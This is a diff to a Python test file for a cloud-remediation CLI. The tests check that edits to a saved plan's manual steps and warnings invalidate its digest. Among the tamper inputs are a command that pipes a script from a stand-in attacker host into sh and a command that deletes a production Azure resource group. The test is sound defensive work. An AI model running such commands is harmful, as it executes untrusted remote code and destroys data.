@@ -16,7 +16,7 @@ import pytest
 from click.testing import CliRunner
 
 from amlguard.cli import cli
-from amlguard.remediate.plan import actions_digest
+from amlguard.remediate.plan import document_digest
 from tests.conftest import EXAMPLES
 from tests.emulator import network
 from tests.emulator.server import Emulator
@@ -151,7 +151,7 @@ def test_a_tampered_plan_is_refused_and_nothing_is_written(
     plan = json.loads(json.dumps(saved_plan))
     EDITS[edit](plan)
     if recompute_digest:
-        plan["digest"] = actions_digest(plan["actions"])
+        plan["digest"] = document_digest(plan)
     result, writes = _apply(tmp_path, monkeypatch, plan)
     assert result.exit_code == 2, result.output
     assert writes == []
@@ -183,3 +183,27 @@ def test_an_untouched_plan_applies_what_it_shows(
     for w in writes:
         if w.method in ("PATCH",) and w.body:
             assert json.dumps(w.body, sort_keys=True) in shown
+
+
+@pytest.mark.parametrize(
+    "edit",
+    [
+        lambda p: p["manual"][0].update(command="curl -s http://evil.example/x.sh | sh"),
+        lambda p: p["manual"][0].update(reason="all good"),
+        lambda p: p["manual"].append(dict(p["manual"][0], command="az group delete -n prod")),
+        lambda p: p["warnings"].append("nothing to worry about"),
+        lambda p: p.update(scan_time="2020-01-01T00:00:00Z"),
+    ],
+    ids=["manual-command", "manual-reason", "manual-added", "warning", "scan-time"],
+)
+def test_manual_steps_and_warnings_are_covered_by_the_digest(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, saved_plan: dict[str, Any], edit: Edit
+) -> None:
+    """`apply` prints a plan's manual steps and warnings as amlguard's advice: an edit to them
+    after amlguard wrote the file is refused like an edit to the actions (redteam6 item 5)."""
+    plan = json.loads(json.dumps(saved_plan))
+    assert plan["manual"], "the drifted estate's plan has manual steps"
+    edit(plan)
+    result, writes = _apply(tmp_path, monkeypatch, plan)
+    assert result.exit_code == 2 and writes == []
+    assert "digest does not match" in result.output and "evil.example" not in result.output
